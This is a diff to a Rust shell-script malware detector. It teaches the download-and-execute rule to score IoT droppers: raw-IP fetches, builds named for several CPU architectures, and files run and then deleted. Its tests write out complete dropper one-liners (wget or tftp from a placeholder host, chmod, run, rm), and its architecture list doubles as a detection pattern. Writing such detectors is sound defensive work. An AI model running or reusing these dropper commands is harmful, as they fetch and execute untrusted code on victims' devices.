@@ -10,8 +10,11 @@
 //! Matching is plain substring and word search, no regexes: patterns are few, lines
 //! are short, and what matters is which *combination* appears in one pipeline
 //! (`curl … | sh`, not `curl` and `sh` somewhere in the file). Calibration: a reverse
-//! shell is specific enough to be malicious alone; everything else is suspicious at
-//! most on its own and adds up with the rest.
+//! shell is specific enough to be malicious alone, and so is an IoT dropper that
+//! fetches build after build from a raw IP address and runs (and deletes) each one
+//! (`download_exec` reaches 100 only with that combination; measured on the corpus's
+//! 755 malicious scripts and 4,336 benign ones in docs/builtin-rules.md);
+//! everything else is suspicious at most on its own and adds up with the rest.
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::sync::LazyLock;
@@ -525,6 +528,25 @@ fn writes_to(line: &str, target: &str) -> bool {
     false
 }
 
+/// Whether `word` is a dotted-quad IPv4 address (optionally with `:port`).
+fn is_ipv4(word: &str) -> bool {
+    let host = word.split(':').next().unwrap_or_default();
+    let parts: Vec<&str> = host.split('.').collect();
+    parts.len() == 4
+        && parts.iter().all(|part| {
+            !part.is_empty() && part.len() <= 3 && part.bytes().all(|b| b.is_ascii_digit())
+        })
+}
+
+/// Whether a fetch in `line` names its server by a raw IPv4 address: a URL's host,
+/// or a bare argument (`tftp 10.0.0.7 -c get x`, `ftpget … 10.0.0.7 x x`).
+fn fetches_from_ip(line: &str) -> bool {
+    has_ip_url(line)
+        || line
+            .split(|c: char| c.is_whitespace() || matches!(c, ';' | '"' | '\''))
+            .any(is_ipv4)
+}
+
 /// Whether a URL in `line` has a raw IPv4 address as its host.
 fn has_ip_url(line: &str) -> bool {
     line.match_indices("://").any(|(at, _)| {
@@ -565,18 +587,62 @@ fn excerpt(line: &str) -> String {
     format!("`{}…`", &line[..end])
 }
 
+/// CPU architecture names that IoT droppers put in the names of the builds they
+/// fetch, one per architecture (`bins/mirai.arm7`, `x86_64`, `mpsl`, …).
+const ARCH_NAMES: &[&str] = &[
+    "arm", "arm4", "arm5", "arm6", "arm7", "armv4l", "armv5l", "armv6l", "armv7l", "aarch64",
+    "arm64", "mips", "mipsel", "mpsl", "mips64", "m68k", "ppc", "powerpc", "ppc440", "sh4",
+    "sparc", "spc", "x86", "x86_64", "x64", "i386", "i486", "i586", "i686",
+];
+
+/// The statements of a logical line: split at `;`, `&&`, `||` and `&` (quotes are
+/// not parsed: droppers do not hide separators in strings, and a split inside a
+/// string only makes a statement look less like a command).
+fn statements(line: &str) -> impl Iterator<Item = &str> {
+    line.split([';', '&', '|'])
+        .map(str::trim)
+        .filter(|statement| !statement.is_empty())
+}
+
+/// Directories droppers write to and run from.
+const DROP_DIRS: [&str; 4] = ["./", "/tmp/", "/var/tmp/", "/dev/shm/"];
+
+/// The file a statement runs from the current or a temporary directory (`./x`,
+/// `/tmp/x`, `sh /tmp/x`), if it does; with `fetched_here` (the line also
+/// downloads), a bare `sh x` counts too.
+fn runs_dropped(statement: &str, fetched_here: bool) -> Option<&str> {
+    let statement = statement.strip_prefix("nohup ").unwrap_or(statement).trim();
+    for dir in DROP_DIRS {
+        if let Some(rest) = statement.strip_prefix(dir) {
+            return rest
+                .split_whitespace()
+                .next()
+                .filter(|name| !name.is_empty());
+        }
+    }
+    let (name, first) = command(statement);
+    let dropped = DROP_DIRS.iter().any(|dir| first.starts_with(dir))
+        || (fetched_here && !first.is_empty() && !first.starts_with('-'));
+    (matches!(name, "sh" | "bash") && dropped).then(|| first.trim_start_matches("./"))
+}
+
 fn download_exec(lines: &[String]) -> Option<Reason> {
     let mut what = Vec::new();
     let mut score = 0;
     let mut fetches = 0usize;
     let mut from_ip = false;
     let (mut chmod, mut run_dropped) = (false, false);
+    // Files run and then deleted by the same line (`./x; rm -rf x`).
+    let mut run_then_deleted: BTreeSet<String> = BTreeSet::new();
+    let mut arches: BTreeSet<&str> = BTreeSet::new();
+    // Lines that both download and run a dropped file: one per build tried.
+    let mut tries = 0usize;
     for line in lines {
         let fetch = any_word(line, FETCHERS).is_some()
             || (line.contains("urlopen(") || line.contains("requests.get("));
         if fetch {
             fetches += 1;
-            from_ip |= has_ip_url(line);
+            from_ip |= fetches_from_ip(line);
         }
         let substituted = ["$(curl", "$(wget", "`curl", "`wget", "<(curl", "<(wget"]
             .iter()
@@ -601,13 +667,33 @@ fn download_exec(lines: &[String]) -> Option<Reason> {
         {
             chmod = true;
         }
-        let (name, _) = command(line);
-        if ["/tmp/", "/var/tmp/", "/dev/shm/", "./"]
-            .iter()
-            .any(|dir| line.starts_with(dir) || line.starts_with(&format!("nohup {dir}")))
-            || (matches!(name, "sh" | "bash") && line.contains("/tmp/"))
-        {
-            run_dropped = true;
+        // Statement by statement: `cd /tmp || cd /var/run; wget …; chmod +x x; ./x`
+        // runs the drop in the middle of the line.
+        let mut ran: Vec<&str> = Vec::new();
+        for statement in statements(line) {
+            if let Some(name) = runs_dropped(statement, fetch) {
+                ran.push(name);
+            } else if command(statement).0 == "rm" {
+                for name in &ran {
+                    if has_word(statement, name) {
+                        run_then_deleted.insert((*name).to_owned());
+                    }
+                }
+            }
+        }
+        run_dropped |= !ran.is_empty();
+        if fetch && !ran.is_empty() {
+            tries += 1;
+        }
+        // Architecture names in what it fetches, or a list of builds in one
+        // assignment (`bins="m.arm m.mips m.x86"`); not `arch=x86_64` lines spread
+        // over a `case`, as installers pick their one download.
+        let named: BTreeSet<&str> = line
+            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+            .filter_map(|word| ARCH_NAMES.iter().copied().find(|arch| *arch == word))
+            .collect();
+        if fetch || (line.contains('=') && named.len() >= 3) {
+            arches.extend(named);
         }
     }
     if fetches > 0 && chmod && run_dropped {
@@ -624,7 +710,31 @@ fn download_exec(lines: &[String]) -> Option<Reason> {
         score += 10;
         what.push(format!("{fetches} downloads (one per CPU architecture?)"));
     }
-    report(&DOWNLOAD_EXEC, score.min(90), what)
+    if score > 0 && tries >= 3 {
+        score += 20;
+        what.push(format!("{tries} lines each download and run a build"));
+    }
+    // One file run and removed is what an installer does with its temporary copy;
+    // several are a dropper trying its builds until one runs.
+    if score > 0 && run_then_deleted.len() >= 2 {
+        score += 20;
+        let names: Vec<&str> = run_then_deleted
+            .iter()
+            .take(3)
+            .map(String::as_str)
+            .collect();
+        what.push(format!("deletes what it ran ({})", names.join(", ")));
+    }
+    if score > 0 && arches.len() >= 3 {
+        score += 30;
+        let names: Vec<&str> = arches.iter().copied().collect();
+        what.push(format!(
+            "builds for {} CPU architectures ({})",
+            arches.len(),
+            names.join(", ")
+        ));
+    }
+    report(&DOWNLOAD_EXEC, score.min(100), what)
 }
 
 fn reverse_shell(lines: &[String]) -> Option<Reason> {
@@ -975,6 +1085,49 @@ mod tests {
                     "./x86".into(),
                 ],
                 &[("script.download_exec", 70)],
+            ),
+            (
+                "bins.sh dropper: fetch, run and delete each build",
+                ["ntpd", "sshd", "openssh", "bash", "tftp"]
+                    .iter()
+                    .map(|name| {
+                        format!(
+                            "cd /tmp || cd /var/run || cd /; wget http://{host}/{name}; chmod +x {name}; ./{name}; rm -rf {name}"
+                        )
+                    })
+                    .collect(),
+                &[("script.download_exec", 100)],
+            ),
+            (
+                "tftp dropper: each build fetched from an IP and run in turn",
+                ["ntpd", "sshd", "openssh", "bash", "tftp"]
+                    .iter()
+                    .map(|name| {
+                        format!(
+                            "cd /tmp || cd /; tftp {host} -c get {name};cat {name} >box;chmod +x *;./box"
+                        )
+                    })
+                    .collect(),
+                &[("script.download_exec", 100)],
+            ),
+            (
+                "multi-architecture loop",
+                vec![
+                    "server=\"dl.example.invalid\"".into(),
+                    "bins=\"m.arm m.arm7 m.mips m.mpsl m.x86\"".into(),
+                    "for b in $bins; do".into(),
+                    "wget http://$server/$b -O helper; chmod 777 helper; ./helper".into(),
+                    "done".into(),
+                ],
+                &[("script.download_exec", 80)],
+            ),
+            (
+                "installer runs and removes one temporary copy",
+                vec![
+                    "curl -fsSLo /tmp/setup https://example.invalid/setup".into(),
+                    "chmod +x /tmp/setup && /tmp/setup --yes && rm -f /tmp/setup".into(),
+                ],
+                &[("script.download_exec", 50)],
             ),
             (
                 "bash reverse shell",
